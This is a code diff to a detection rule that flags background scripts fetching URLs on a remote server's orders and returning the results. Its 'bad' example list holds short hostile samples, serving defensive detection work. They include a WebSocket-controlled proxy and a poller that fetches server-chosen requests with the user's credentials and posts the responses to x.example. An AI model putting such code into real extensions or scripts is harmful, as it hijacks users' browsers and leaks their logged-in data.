@@ -1,4 +1,4 @@
-import { apiPath } from '../../facts/javascript/query.ts';
+import { apiPath, propertyOf } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
 import { isFromServer, requestsOf } from './network.ts';
@@ -23,16 +23,19 @@ export const fetchesForOthers = defineRule({
       if (path !== 'fetch' && path !== 'XMLHttpRequest().open' && path !== 'axios.get' && path !== 'axios') continue;
       if (!request.to.startsWith('*') || !isFromServer(script, request.address)) continue;
       const ordered = originPaths(script, request.address).has('WebSocket');
-      if (!ordered && !unaskedCalls(script).has(request.value)) continue;
+      // The server describes the whole request, not only where it goes.
+      const described = ['method', 'body'].every((name) => request.sent.some((value) => isFromServer(script, propertyOf(script, value, name))));
+      if (!ordered && !described && !unaskedCalls(script).has(request.value)) continue;
       const out = leavesBy(script, new Set([request.value]), ['network']);
       if (out === undefined || out.value === request.value) continue;
-      yield hit(request.value, ordered ? { confidence: 'high' } : { severity: 'medium', message: `The answer goes to ${out.to}.` });
+      yield hit(request.value, ordered || described ? { confidence: 'high' } : { severity: 'medium', message: `The answer goes to ${out.to}.` });
     }
   }),
   examples: {
     bad: [
       backgroundExample('const ws = new WebSocket("wss://x.example/node"); ws.onmessage = async (e) => { const job = JSON.parse(e.data); const r = await fetch(job.url, job.options); ws.send(JSON.stringify({ id: job.id, body: await r.text() })); };'),
       backgroundExample('async function work() { const job = await (await fetch("https://x.example/job")).json(); const page = await (await fetch(job.url)).text(); await fetch("https://x.example/done", { method: "POST", body: page }); } setInterval(work, 60000);'),
+      backgroundExample('class Job { constructor(raw) { Object.assign(this, raw); } async run() { const r = await fetch(this.u, { method: this.m, body: this.b, credentials: "include" }); return { s: r.status, t: await r.text() }; } } async function step() { const res = await fetch("https://x.example/poll"); const job = new Job(await res.json()); const out = await job.run(); await fetch("https://x.example/result", { method: "POST", body: JSON.stringify(out) }); } step();'),
     ],
     good: [
       backgroundExample('async function all() { let url = "https://api.example.com/items"; while (url) { const d = await (await fetch(url)).json(); keep(d.items); url = d.next; } }'),
